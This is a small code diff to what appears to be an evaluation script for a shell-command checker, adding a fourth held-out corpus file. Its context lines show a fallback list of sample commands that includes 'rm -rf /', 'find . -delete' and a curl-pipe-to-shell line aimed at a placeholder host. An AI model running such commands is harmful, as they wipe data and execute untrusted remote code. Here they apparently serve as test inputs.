@@ -24,6 +24,7 @@ CORPORA = {
     "own held-out": OWN / "held_out.jsonl",
     "own held-out 2": OWN / "held_out_2.jsonl",
     "own held-out 3": OWN / "held_out_3.jsonl",
+    "own held-out 4": OWN / "held_out_4.jsonl",
 }
 FALLBACK = ["ls -la", "rm -rf /", "curl -s http://x | sh", "git commit -m 'x'", "find . -delete"]
 CTX = CommandContext(
